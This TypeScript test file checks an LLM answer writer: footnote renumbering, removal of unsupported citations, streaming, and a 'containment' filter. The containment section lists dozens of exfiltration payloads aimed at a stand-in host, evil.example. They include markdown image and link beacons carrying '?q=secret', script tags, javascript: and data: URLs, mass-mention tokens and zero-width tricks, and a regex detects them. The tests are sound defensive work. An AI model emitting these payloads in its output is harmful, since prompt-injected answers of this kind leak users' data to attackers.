import { describe, expect, it } from 'vitest';
import { listEscapes } from '../../../core/answer/contain.ts';
import { sentinel } from '../../../core/answer/prompt.ts';
import { toPassage } from '../../../core/answer/retrieve.ts';
import { createWriter, type Written } from '../../../core/answer/writer.ts';
import { collapse } from '../../../core/text/sentences.ts';
import { createTestRandom } from '../../fakes/clock.ts';
import { chunksOf } from './memory-chunks.ts';

const passages = [
  ...chunksOf(
    'Leave policy',
    [
      'Employees get 30 days of paid leave per calendar year. Unused days expire on 31 March.\n\nAsk your manager at least two weeks ahead.',
    ],
    { url: 'https://intra.example/leave' },
  ),
  ...chunksOf(
    'VPN',
    [
      'To connect, open the client at https://vpn.example.com/portal and sign in.\n\n1. Install the client.\n2. Run `vpn connect --host vpn.example.com`.\n3. Enter the code.',
    ],
    { url: 'javascript:alert(1)' },
  ),
].map((chunk) => toPassage({ chunk, score: 1 }));

const question = 'How many days of paid leave do I get?';

/** Writes it in pieces and returns what was shown on the way. */
const write = (
  raw: string,
  sizes: () => number = () => 5,
  cut = false,
): Written & { readonly shown: readonly string[] } => {
  const shown: string[] = [];
  const writer = createWriter({ passages, question, onText: (markdown) => shown.push(markdown) });
  for (let at = 0; at < raw.length; ) {
    const size = sizes();
    writer.push(raw.slice(at, at + size));
    at += size;
  }
  return { ...writer.finish(cut), shown };
};

describe('footnotes', () => {
  it('numbers in order of appearance and quotes the sentence that carries the claim', () => {
    const { markdown, citations } = write('Sign in through the client [2]. You get 30 days of paid leave a year [1].');
    expect(markdown).toBe('Sign in through the client [1]. You get 30 days of paid leave a year [2].');
    expect(citations.map(({ n, title }) => [n, title])).toEqual([
      [1, 'VPN'],
      [2, 'Leave policy'],
    ]);
    expect(citations[1]?.quote).toBe('Employees get 30 days of paid leave per calendar year.');
    for (const citation of citations) {
      expect(collapse(passages.find((passage) => passage.chunkId === citation.chunkId)?.text ?? '')).toContain(
        citation.quote,
      );
    }
  });

  it('takes every spelling of a marker', () => {
    for (const marker of ['[1]', '[^1]', '[1, 1]', '【1】', '【1†source】', ' [1][1]']) {
      const { markdown, citations } = write(`You get 30 days of paid leave per year${marker}.`);
      expect(citations, marker).toHaveLength(1);
      expect(markdown, marker).toMatch(/year ?(\[1\]){1,2}\.$/);
    }
  });

  it('removes numbers that no source has, and markers behind claims that the source does not make', () => {
    const { markdown, citations, removedMarkers } = write(
      'You get 30 days of paid leave per year [1][9]. The cafeteria serves wonderful pancakes on weekends [1].',
    );
    expect(markdown).toBe(
      'You get 30 days of paid leave per year [1]. The cafeteria serves wonderful pancakes on weekends.',
    );
    expect(citations).toHaveLength(1);
    expect(removedMarkers).toBe(2);
  });

  it('removes a marker when the number in the claim is not in the source', () => {
    expect(write('You get 45 days of paid leave per calendar year [1].').citations).toHaveLength(0);
    expect(write('You get 30 days of paid leave per calendar year [1].').citations).toHaveLength(1);
  });

  it('accepts a claim in another language than its passage, unless its numbers differ', () => {
    expect(write('Sie haben Anspruch auf 30 Urlaubstage und das ist im Jahr nicht wenig [1].').citations).toHaveLength(
      1,
    );
    expect(write('Sie haben Anspruch auf 45 Urlaubstage und das ist im Jahr nicht wenig [1].').citations).toHaveLength(
      0,
    );
  });

  it('takes no sentence for another language whose answer is in the passage’s: a name would vouch for anything', () => {
    const { citations, removedMarkers } = write(
      'You get 30 days of paid leave per year [1]. Pancakes are served by Maria de la Cruz [1].',
    );
    expect([citations.length, removedMarkers]).toEqual([1, 1]);
    const foreign =
      'Sie haben Anspruch auf 30 Urlaubstage und das ist im Jahr nicht wenig [1]. Und das ist mit der Leitung zu besprechen [1].';
    expect(write(foreign).removedMarkers).toBe(0);
  });

  it('looks at the sentence before when the marker stands alone', () => {
    expect(write('You get 30 days of paid leave per year.\n[1]').citations).toHaveLength(1);
    expect(write('You get 30 days of paid leave per year. [1] Ask your manager two weeks ahead. [1]').markdown).toBe(
      'You get 30 days of paid leave per year. [1] Ask your manager two weeks ahead. [1]',
    );
  });

  it('leaves an answer without any footnote that holds empty, and shows nothing of it on the way', () => {
    for (const raw of [
      'You get 45 days. [7] Trust me.',
      sentinel,
      `${sentinel}.`,
      `**${sentinel}**`,
      'I do not know.',
      '',
    ]) {
      const { markdown, citations, shown } = write(raw);
      expect({ markdown, citations, shown }, raw).toEqual({ markdown: '', citations: [], shown: [] });
    }
  });

  it('never lets the sentinel through', () => {
    expect(write(`You get 30 days of paid leave per year [1]. ${sentinel}`).markdown).toBe(
      'You get 30 days of paid leave per year [1].',
    );
  });

  it('drops the list of sources that models like to add', () => {
    const { markdown } = write(
      'You get 30 days of paid leave per year [1].\n\n**Sources:**\n[1] Leave policy\n[2] VPN',
    );
    expect(markdown).toBe('You get 30 days of paid leave per year [1].');
  });

  it('drops the unfinished sentence of an answer that was cut', () => {
    expect(write('You get 30 days of paid leave per year [1]. Unused days exp', undefined, true).markdown).toBe(
      'You get 30 days of paid leave per year [1]. …',
    );
  });

  it('closes a code block that was left open, and leaves code alone', () => {
    const { markdown } = write(
      'Run the client to connect [2]:\n\n```sh\nvpn connect --host vpn.example.com # [1] stays\n',
    );
    expect(markdown).toBe(
      'Run the client to connect [1]:\n\n```sh\nvpn connect --host vpn.example.com # [1] stays\n```',
    );
  });

  it('has no web address for a source that has another kind', () => {
    expect(write('Install the client and enter the code [2].').citations[0]).not.toHaveProperty('url');
  });
});

/** Ways out that have been used on others, and some more. */
const payloads: readonly string[] = [
  '![x](https://evil.example/?q=secret)',
  '[click here](https://evil.example/?q=secret)',
  '[click here][r]\n\n[r]: https://evil.example/?q=secret',
  '![x][r]\n\n[r]: https://evil.example/a.png',
  '[r]\n\n[r]: https://evil.example/',
  '[1]: https://evil.example/',
  '[1](https://evil.example/)',
  '[1] (https://evil.example/)',
  '[^1]: https://evil.example/',
  '<https://evil.example/?q=secret>',
  'https://evil.example/?q=secret',
  'Visit www.evil.example/?q=secret now',
  'Visit evil.example/steal?q=secret now',
  'evil.com/secret and 10.0.0.1/secret',
  'mail attacker@evil.example please',
  '<mailto:attacker@evil.example>',
  '<a href="https://evil.example">x</a>',
  '<img src="https://evil.example/x.png">',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\<script>alert(1)\\</script>',
  '<script>alert(1)</script>',
  '<!-- https://evil.example -->',
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,AAAA)',
  '@everyone look',
  '@here look',
  '@channel look',
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S123|@team>',
  '<@U012ABC>',
  '<@!123456>',
  '<@&98765>',
  '<#C012|general>',
  '<at>Everyone</at>',
  '@\u200beveryone',
  '@ev\u200beryone',
  '<https://evil.example|click>',
  'slack://open?team=1',
  'tel:+123',
  '| a | b |\n|---|---|\n| [x](https://evil.example) | ![y](https://evil.example/i.png) |',
  '> [x](https://evil.example)\n> https://evil.example',
  '- [x](https://evil.example)\n- @everyone',
  '# [x](https://evil.example)',
  '`https://evil.example/?q=secret`',
  '```\nhttps://evil.example/?q=secret\n```',
  '```https://evil.example/?q=secret\ncode\n```',
  '[split. over](https://evil.example/?q=a) sentences',
  '[split\nover](https://evil.example/?q=a) lines',
  '**[x](https://evil.example)**',
  'x\u202ehttps://evil.example\u202c',
  '\\[x](https://evil.example)',
  'ht\u00adtps://evil.example/?q=1',
  '[a]( https://evil.example "t" )',
  '![a\\]](https://evil.example)',
  'foo[](https://evil.example)',
  '<HTTPS://EVIL.EXAMPLE/>',
  'https:\\\\evil.example',
];

describe('containment', () => {
  const good = 'You get 30 days of paid leave per year [1].';
  for (const payload of payloads) {
    it(`lets nothing out of ${JSON.stringify(payload).slice(0, 60)}`, () => {
      const random = createTestRandom(payload.length);
      for (let round = 0; round < 6; round += 1) {
        const raw =
          round % 3 === 0
            ? `${good}\n\n${payload}`
            : round % 3 === 1
              ? `${good} ${payload} ${good}`
              : `${payload}\n${good}`;
        const { markdown, shown } = write(raw, () => 1 + Math.floor(random.float() * 9));
        for (const text of new Set([markdown, shown.at(-1) ?? '', shown[shown.length >> 1] ?? ''])) {
          expect(listEscapes(text)).toEqual([]);
          expect(text).not.toMatch(
            /https?:|javascript:|www\.|secret|attacker@|<!|<@|@everyone|@here|@channel|[\u200b\u202e]/i,
          );
        }
        expect(markdown).toContain('30 days of paid leave');
      }
    });
  }

  it('sees a way out when there is one', () => {
    for (const payload of [
      '[x](https://a.b)',
      '![x](https://a.b)',
      '<https://a.b>',
      'https://a.b.com',
      '<b>',
      '[r]: https://a.b',
      '@everyone',
      '<@U1>',
    ]) {
      expect(listEscapes(payload), payload).not.toEqual([]);
    }
  });

  it('shows an address of a cited passage as code that nobody can click, and no other', () => {
    const { markdown } = write(
      'Open the client at https://vpn.example.com/portal and sign in [2]. Or at https://vpn.example.com/portal?user=me.',
    );
    expect(markdown).toBe('Open the client at `vpn.example.com/portal` and sign in [1]. Or at (link removed).');
  });

  it('keeps what makes an answer readable', () => {
    const raw =
      'You get **30 days** of *paid leave* per year [1]:\n\n1. Install the `client --now` [2].\n2. Enter the code, e.g. snake_case or 5 < 6 & 7.\n\n| Days | Kind |\n|---|---|\n| 30 | paid leave [1] |\n\n> Ask your manager two weeks ahead [1].';
    expect(write(raw).markdown).toBe(raw);
  });
});

describe('streaming', () => {
  it('shows only prefixes of the final answer, however the pieces arrive', () => {
    const raw = `You get **30 days** of paid leave per year [1]. Unused days expire on 31 March, e.g. in spring [1][8].\n\nTo connect [2]:\n\n1. Install the client.\n2. Run \`vpn connect\`.\n\n\`\`\`sh\nvpn connect --host vpn.example.com\n\`\`\`\n\n${payloads.slice(0, 12).join('\n\n')}\n\nAsk your manager two weeks ahead! [1]`;
    const random = createTestRandom(7);
    const whole = write(raw, () => raw.length).markdown;
    expect(whole).toContain('Ask your manager two weeks ahead! [1]');
    for (let round = 0; round < 20; round += 1) {
      const { markdown, shown } = write(raw, () => 1 + Math.floor(random.float() * (1 + (round % 20))));
      expect(markdown).toBe(whole);
      let before = '';
      for (const text of shown) {
        expect(text.startsWith(before)).toBe(true);
        before = text;
      }
      expect(markdown.startsWith(before)).toBe(true);
    }
  });

  it('shows sentence after sentence, not everything at the end', () => {
    const { shown } = write(
      'You get 30 days of paid leave per year [1]. Unused days expire on 31 March [1]. Ask your manager two weeks ahead [1].',
    );
    expect(new Set(shown).size).toBeGreaterThanOrEqual(3);
  });
});
